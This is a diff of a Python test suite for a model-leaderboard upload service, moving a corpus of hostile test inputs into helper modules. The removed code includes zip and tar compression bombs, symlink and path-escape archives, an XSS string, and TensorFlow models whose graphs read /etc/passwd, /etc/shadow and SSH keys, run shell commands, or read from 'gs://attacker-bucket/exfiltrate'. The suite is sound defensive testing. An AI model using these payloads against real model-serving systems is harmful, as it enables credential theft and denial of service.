@@ -21,18 +21,13 @@ PyFunc/EagerPyFunc (tf.py_function). All of them are covered below.
 
 from __future__ import annotations
 
-import functools
 import gzip
 import io
 import os
 import re
-import shutil
-import stat
 import sys
 import tarfile
 import uuid
-import warnings
-import zipfile
 from dataclasses import dataclass, field
 from pathlib import Path
 from typing import Any, Callable
@@ -49,30 +44,56 @@ from evaluator.services.pipeline import network_run_pipeline
 from leaderboard import services
 from leaderboard.models import Network
 from leaderboard.services import token_create
+from tests.hostile_archives import (
+    Ctx,
+    FAKE_MODEL,
+    encrypted_zip,
+    file_head,
+    pax_bomb,
+    symlink_zip_member,
+    tar_file,
+    tar_special,
+    targz_bomb,
+    targz_bytes,
+    targz_folder,
+    truncated,
+    zip_bomb,
+    zip_bytes,
+    zip_folder,
+)
+from tests.hostile_models import (
+    m_decode_proto_file_descriptor,
+    m_fails_at_inference,
+    m_five_classes,
+    m_garbage_graph,
+    m_infinite_loop,
+    m_int_input,
+    m_matching_files,
+    m_memory_hog,
+    m_missing_variables,
+    m_nan,
+    m_no_signatures,
+    m_print_to_file,
+    m_py_function,
+    m_rank3_output,
+    m_read_file,
+    m_read_in_cond_branch,
+    m_remote_filesystem,
+    m_two_inputs,
+    m_two_outputs,
+    m_write_file,
+    m_write_in_nested_function,
+    m_write_in_unused_method,
+    m_write_in_while_body,
+    m_wrong_shape,
+    model_zip,
+)
 
 pytestmark = [pytest.mark.django_db, pytest.mark.slow]
 
 S = Network.Status
 EVIL = '<script>alert("pwned")</script><img src=x onerror=alert(1)>'
 
-
-# --------------------------------------------------------------------------- context
-
-
-@dataclass
-class Ctx:
-    tmp: Path
-    pwn: str  # the file name every payload tries to create somewhere it must not
-    canary: Path  # a folder outside the media root that payloads aim at
-    tiny_cnn_dir: Path
-
-    @property
-    def tmp_target(self) -> str:
-        return f"/tmp/{self.pwn}"
-
-    @property
-    def canary_target(self) -> str:
-        return str(self.canary / self.pwn)
 
 
 def _snapshot(folder: Path) -> dict[str, bytes]:
@@ -88,379 +109,10 @@ def _must_not_exist(ctx: Ctx, network_pk: int | None) -> list[Path]:
     return [place / ctx.pwn for place in places]
 
 
-# --------------------------------------------------------------------------- archive builders
-
-
-def zip_bytes(members: list[tuple[str | zipfile.ZipInfo, bytes]], *, level: int | None = None) -> bytes:
-    buf = io.BytesIO()
-    with warnings.catch_warnings():
-        warnings.simplefilter("ignore")  # duplicate names warn
-        with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as zf:
-            for name, data in members:
-                zf.writestr(name, data)
-    return buf.getvalue()
-
-
-def targz_bytes(members: list[tuple[tarfile.TarInfo, bytes | None]], *, fmt: int = tarfile.GNU_FORMAT,
-                compress: bool = True) -> bytes:
-    buf = io.BytesIO()
-    with tarfile.open(fileobj=buf, mode="w:gz" if compress else "w", format=fmt) as tf:
-        for info, data in members:
-            tf.addfile(info, io.BytesIO(data) if data is not None else None)
-    return buf.getvalue()
-
-
-def tar_file(name: str, data: bytes) -> tuple[tarfile.TarInfo, bytes]:
-    info = tarfile.TarInfo(name)
-    info.size = len(data)
-    return info, data
-
-
-def tar_special(name: str, kind: bytes, linkname: str = "") -> tuple[tarfile.TarInfo, None]:
-    info = tarfile.TarInfo(name)
-    info.type, info.linkname = kind, linkname
-    if kind == tarfile.CHRTYPE:
-        info.devmajor, info.devminor = 1, 3  # /dev/null's numbers
-    return info, None
-
-
-# A fake model after the hostile member: if the hostile member were skipped instead of
-# refused, the reason would be about this model instead, and the words would not match.
-FAKE_MODEL = [("model/saved_model.pb", b"\x08\x01"), ("model/variables/variables.index", b"")]
-
-
-def zip_folder(folder: Path, prefix: str = "model") -> bytes:
-    return zip_bytes([(f"{prefix}/{p.relative_to(folder).as_posix()}", p.read_bytes())
-                      for p in sorted(folder.rglob("*")) if p.is_file()])
-
-
-def targz_folder(folder: Path, prefix: str = "model") -> bytes:
-    return targz_bytes([tar_file(f"{prefix}/{p.relative_to(folder).as_posix()}", p.read_bytes())
-                        for p in sorted(folder.rglob("*")) if p.is_file()])
-
-
-
-@functools.cache
-def zip_bomb() -> bytes:
-    """300 MB of zeros deflated to ~300 KB (ratio ~1000:1); built once, in ~2 s."""
-    buf = io.BytesIO()
-    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
-        zf.writestr("model/saved_model.pb", b"\x08\x01")
-        with zf.open("model/variables/variables.data-00000-of-00001", "w", force_zip64=True) as fh:
-            block = bytes(1 << 20)
-            for _ in range(300):
-                fh.write(block)
-    return buf.getvalue()
-
-
-@functools.cache
-def targz_bomb() -> bytes:
-    """A tar.gz holding 100 MB of zeros (the tar header declares the true size)."""
-
-    class Zeros(io.RawIOBase):
-        def __init__(self, n: int) -> None:
-            self.left = n
-
-        def readable(self) -> bool:
-            return True
-
-        def readinto(self, b) -> int:
-            n = min(len(b), self.left)
-            b[:n] = bytes(n)
-            self.left -= n
-            return n
-
-    size = 100 << 20
-    buf = io.BytesIO()
-    with tarfile.open(fileobj=buf, mode="w:gz", compresslevel=9) as tf:
-        info = tarfile.TarInfo("model/variables/variables.data-00000-of-00001")
-        info.size = size
-        tf.addfile(info, io.BufferedReader(Zeros(size)))
-    return buf.getvalue()
-
-
-def _symlink_zip_member(name: str, target: str) -> zipfile.ZipInfo:
-    info = zipfile.ZipInfo(name)
-    info.create_system = 3  # Unix, so the mode bits count
-    info.external_attr = (stat.S_IFLNK | 0o777) << 16
-    return info
-
-
-def _encrypted_zip() -> bytes:
-    """A zip whose member claims to be encrypted (zipfile clears the flag when writing,
-    so it is set afterwards in the local header and the central directory)."""
-    data = bytearray(zip_bytes([("model/saved_model.pb", b"\x08\x01" * 100)]))
-    local, central = data.index(b"PK\x03\x04"), data.index(b"PK\x01\x02")
-    data[local + 6] |= 0x1
-    data[central + 8] |= 0x1
-    return bytes(data)
-
-
-def _pax_bomb() -> bytes:
-    info, data = tar_file("model/saved_model.pb", b"\x08\x01")
-    info.pax_headers = {"comment": "x" * (2 << 20)}
-    return targz_bytes([(info, data)], fmt=tarfile.PAX_FORMAT)
-
-
-def _head(path: Path, size: int = 4096) -> bytes:
-    with open(path, "rb") as fh:
-        return fh.read(size)
-
-
 def _has(word: str | tuple[str, ...], text: str) -> bool:
     """word (or any of a tuple of words) in text, raw or HTML-escaped."""
     words = word if isinstance(word, tuple) else (word,)
     return any(w in text or escape(w) in text for w in words)
-
-
-def _truncated(data: bytes) -> bytes:
-    return data[: len(data) // 2]
-
-
-# --------------------------------------------------------------------------- model builders
-# Every hostile op sits in a tf.function that is only traced for the export, never run:
-# the export itself touches nothing, so a file found later was written by the service.
-
-
-def _tf():
-    import tensorflow as tf
-
-    return tf
-
-
-def _image_spec(dtype: Any = None, shape: tuple = (None, 28, 28, 1)):
-    tf = _tf()
-    return tf.TensorSpec(list(shape), dtype or tf.float32)
-
-
-def _logits(x, classes: int = 10):
-    tf = _tf()
-    return tf.reshape(tf.reduce_mean(tf.cast(x, tf.float32), axis=[1, 2, 3]), [-1, 1]) * tf.ones([1, classes])
-
-
-def export_module(path: Path, body: Callable, specs: list | None = None,
-                  extra_methods: dict[str, Callable] | None = None) -> Path:
-    """A tf.Module whose serving signature returns body(*inputs)."""
-    tf = _tf()
-    specs = specs or [_image_spec()]
-
-    class Net(tf.Module):
-        pass
-
-    net = Net()
-    net.w = tf.Variable(tf.zeros([10]))
-    serve = tf.function(lambda *xs: body(*xs), input_signature=specs)
-    net.serve = serve
-    for name, fn in (extra_methods or {}).items():
-        setattr(net, name, tf.function(fn, input_signature=[_image_spec()]))
-    concrete = serve.get_concrete_function()
-    tf.saved_model.save(net, str(path), signatures={"serving_default": concrete})
-    return path
-
-
-def _out(x):
-    return {"logits": _logits(x)}
-
-
-def m_read_file(ctx: Ctx) -> Path:
-    tf = _tf()
-    return export_module(ctx.tmp / "m", lambda x: {"logits": _logits(x) + tf.cast(
-        tf.strings.length(tf.io.read_file("/etc/passwd")), tf.float32)})
-
-
-def m_write_file(ctx: Ctx) -> Path:
-    tf = _tf()
-
-    def body(x):
-        tf.io.write_file(ctx.tmp_target, "pwned")
-        return _out(x)
-
-    return export_module(ctx.tmp / "m", body)
-
-
-def m_write_in_while_body(ctx: Ctx) -> Path:
-    tf = _tf()
-
-    def body(x):
-        def step(i, acc):
-            tf.io.write_file(ctx.canary_target, "pwned")
-            return i + 1, acc
-
-        _, y = tf.while_loop(lambda i, _: i < 2, step, [0, x])
-        return _out(y)
-
-    return export_module(ctx.tmp / "m", body)
-
-
-def m_read_in_cond_branch(ctx: Ctx) -> Path:
-    tf = _tf()
-
-    def body(x):
-        leak = lambda: x + tf.cast(tf.strings.length(tf.io.read_file("/etc/shadow")), tf.float32)  # noqa: E731
-        return _out(tf.cond(tf.reduce_mean(x) > 2.0, leak, lambda: x))
-
-    return export_module(ctx.tmp / "m", body)
-
-
-def m_write_in_nested_function(ctx: Ctx) -> Path:
-    tf = _tf()
-
-    @tf.function
-    def inner(t):
-        tf.io.write_file(ctx.tmp_target, "pwned")
-        return t
-
-    return export_module(ctx.tmp / "m", lambda x: _out(inner(x)))
-
-
-def m_write_in_unused_method(ctx: Ctx) -> Path:
-    """The signature is clean; another saved method (callable after loading) is not."""
-    tf = _tf()
-
-    def evil(x):
-        tf.io.write_file(ctx.tmp_target, "pwned")
-        return x
-
-    return export_module(ctx.tmp / "m", _out, extra_methods={"evil": evil})
-
-
-def m_matching_files(ctx: Ctx) -> Path:
-    tf = _tf()
-    return export_module(ctx.tmp / "m", lambda x: {"logits": _logits(x) + tf.cast(
-        tf.size(tf.io.matching_files("/home/*/.ssh/*")), tf.float32)})
-
-
-def m_py_function(ctx: Ctx) -> Path:
-    tf = _tf()
-
-    def body(x):
-        y = tf.py_function(lambda t: (os.system(f"touch {ctx.tmp_target}"), t)[1], [x], tf.float32)
-        y.set_shape(x.shape)
-        return _out(y)
-
-    return export_module(ctx.tmp / "m", body)
-
-
-def m_print_to_file(ctx: Ctx) -> Path:
-    tf = _tf()
-
-    def body(x):
-        tf.print("pwned", output_stream=f"file://{ctx.canary_target}")
-        return _out(x)
-
-    return export_module(ctx.tmp / "m", body)
-
-
-def m_decode_proto_file_descriptor(ctx: Ctx) -> Path:
-    tf = _tf()
-
-    def body(x):
-        _, values = tf.io.decode_proto(tf.constant([b""]), "tensorflow.TensorShapeProto", ["unknown_rank"],
-                                       [tf.bool], descriptor_source="file:///etc/passwd")
-        return {"logits": _logits(x) + tf.cast(tf.size(values[0]), tf.float32)}
-
-    return export_module(ctx.tmp / "m", body)
-
-
-def m_remote_filesystem(ctx: Ctx) -> Path:
-    """Reaching the network through TF's file systems (GCS is built in)."""
-    tf = _tf()
-    return export_module(ctx.tmp / "m", lambda x: {"logits": _logits(x) + tf.cast(
-        tf.strings.length(tf.io.read_file("gs://attacker-bucket/exfiltrate")), tf.float32)})
-
-
-def m_nan(ctx: Ctx) -> Path:
-    tf = _tf()
-    return export_module(ctx.tmp / "m", lambda x: {"logits": _logits(x) + tf.math.log(-1.0 - tf.reduce_mean(x))})
-
-
-def m_wrong_shape(ctx: Ctx) -> Path:
-    import keras
-
-    model = keras.Sequential([keras.Input((32, 32, 3)), keras.layers.Flatten(), keras.layers.Dense(10)])
-    model.export(str(ctx.tmp / "m"), verbose=False)
-    return ctx.tmp / "m"
-
-
-def m_int_input(ctx: Ctx) -> Path:
-    tf = _tf()
-    return export_module(ctx.tmp / "m", _out, specs=[_image_spec(tf.int32)])
-
-
-def m_five_classes(ctx: Ctx) -> Path:
-    return export_module(ctx.tmp / "m", lambda x: {"logits": _logits(x, classes=5)})
-
-
-def m_two_inputs(ctx: Ctx) -> Path:
-    return export_module(ctx.tmp / "m", lambda x, y: {"logits": _logits(x + y)},
-                         specs=[_image_spec(), _image_spec()])
-
-
-def m_two_outputs(ctx: Ctx) -> Path:
-    return export_module(ctx.tmp / "m", lambda x: {"a": _logits(x), "b": _logits(x)})
-
-
-def m_rank3_output(ctx: Ctx) -> Path:
-    tf = _tf()
-    return export_module(ctx.tmp / "m", lambda x: {"logits": tf.reshape(_logits(x), [-1, 10, 1])})
-
-
-def m_no_signatures(ctx: Ctx) -> Path:
-    tf = _tf()
-    module = tf.Module()
-    module.v = tf.Variable(1.0)
-    tf.saved_model.save(module, str(ctx.tmp / "m"))
-    return ctx.tmp / "m"
-
-
-def m_fails_at_inference(ctx: Ctx) -> Path:
-    tf = _tf()
-
-    def body(x):
-        with tf.control_dependencies([tf.debugging.assert_less(tf.reduce_min(x), -1.0, message="refuse to run")]):
-            return _out(tf.identity(x))
-
-    return export_module(ctx.tmp / "m", body)
-
-
-def m_missing_variables(ctx: Ctx) -> Path:
-    path = export_module(ctx.tmp / "m", lambda x: {"logits": _logits(x)})
-    shutil.rmtree(path / "variables")
-    return path
-
-
-def m_garbage_graph(ctx: Ctx) -> Path:
-    path = ctx.tmp / "m"
-    path.mkdir()
-    (path / "saved_model.pb").write_bytes(b"\xff\xfe not a protobuf " * 64)
-    return path
-
-
-def m_memory_hog(ctx: Ctx) -> Path:
-    """3 GiB of float32 sized at run time from the input, so nothing folds it away."""
-    tf = _tf()
-
-    def body(x):
-        n = 768 + tf.cast(tf.reduce_min(x), tf.int32)
-        big = tf.fill(tf.stack([n, 1024, 1024]), 1.0)
-        return {"logits": _logits(x) + tf.reduce_mean(big) * 1e-6}
-
-    return export_module(ctx.tmp / "m", body)
-
-
-def m_infinite_loop(ctx: Ctx) -> Path:
-    tf = _tf()
-
-    def body(x):
-        always = tf.reduce_min(x) > -1.0  # true for every image, known only at run time
-        count = tf.while_loop(lambda i: always, lambda i: i + 1.0, [tf.constant(0.0)])[0]
-        return {"logits": _logits(x) + count * 0.0}
-
-    return export_module(ctx.tmp / "m", body)
-
-
-def model_zip(builder: Callable[[Ctx], Path]) -> Callable[[Ctx], bytes]:
-    return lambda ctx: zip_folder(builder(ctx))
 
 
 # --------------------------------------------------------------------------- the corpus
@@ -489,10 +141,10 @@ CASES = [
          ("backslashes",)),
     Case("zip-drive-letter", lambda c: zip_bytes([(f"C:/Windows/{c.pwn}", b"pwned"), *FAKE_MODEL]),
          ("absolute path",)),
-    Case("zip-symlink", lambda c: zip_bytes([(_symlink_zip_member("model/link", str(c.canary)), str(c.canary).encode()),
+    Case("zip-symlink", lambda c: zip_bytes([(symlink_zip_member("model/link", str(c.canary)), str(c.canary).encode()),
                                              (f"model/link/{c.pwn}", b"pwned"), *FAKE_MODEL]),
          ("symbolic link", "links are not allowed")),
-    Case("zip-encrypted", lambda c: _encrypted_zip(),
+    Case("zip-encrypted", lambda c: encrypted_zip(),
          ("encrypted",)),
     Case("zip-duplicate-member", lambda c: zip_bytes([*FAKE_MODEL, ("model/saved_model.pb", b"\x08\x02")]),
          ("appears more than once",), via="service"),
@@ -501,7 +153,7 @@ CASES = [
          ("more than 2000 members",)),
     Case("zip-long-member-name", lambda c: zip_bytes([("model/" + "a/" * 600 + "x", b"x")]),
          ("over 1024 bytes",)),
-    Case("zip-truncated", lambda c: _truncated(zip_folder(c.tiny_cnn_dir)), ("truncated or corrupt",)),
+    Case("zip-truncated", lambda c: truncated(zip_folder(c.tiny_cnn_dir)), ("truncated or corrupt",)),
     Case("zip-nested-archive", lambda c: zip_bytes([("upload/model.zip", zip_folder(c.tiny_cnn_dir))]),
          ("no saved_model.pb", "nested archives are not unpacked")),
     Case("zip-empty", lambda c: b"PK\x05\x06" + bytes(18), ("no saved_model.pb",)),
@@ -525,10 +177,10 @@ CASES = [
          ("device, fifo or other special file",), filename="model.tar.gz", via="form"),
     Case("tar-fifo", lambda c: targz_bytes([tar_special("model/fifo", tarfile.FIFOTYPE)]),
          ("device, fifo or other special file",), filename="model.tar.gz", via="service"),
-    Case("tar-oversized-pax-header", lambda c: _pax_bomb(), ("oversized tar metadata header",),
+    Case("tar-oversized-pax-header", lambda c: pax_bomb(), ("oversized tar metadata header",),
          filename="model.tar.gz"),
     Case("targz-bomb-100MB", lambda c: targz_bomb(), ("compression bomb",), filename="model.tar.gz"),
-    Case("targz-truncated", lambda c: _truncated(targz_folder(c.tiny_cnn_dir)), ("truncated or corrupt",),
+    Case("targz-truncated", lambda c: truncated(targz_folder(c.tiny_cnn_dir)), ("truncated or corrupt",),
          filename="model.tgz"),
     Case("gzip-but-not-tar", lambda c: gzip.compress(b"hello world " * 100), ("truncated or corrupt",),
          filename="model.tar.gz"),
@@ -536,7 +188,7 @@ CASES = [
     # --- refused at the door: nothing stored, no pipeline
     Case("wrong-magic-png", lambda c: b"\x89PNG\r\n\x1a\n" + bytes(200), ("not a .zip or .tar.gz archive",),
          refused=400),
-    Case("wrong-magic-elf", lambda c: _head(Path(sys.executable).resolve()),
+    Case("wrong-magic-elf", lambda c: file_head(Path(sys.executable).resolve()),
          ("not a .zip or .tar.gz archive",), refused=400, via="form"),
     Case("uncompressed-tar", lambda c: targz_bytes(_fake_model_tar(), compress=False),
          ("not a .zip or .tar.gz archive",), refused=400, filename="model.tar"),
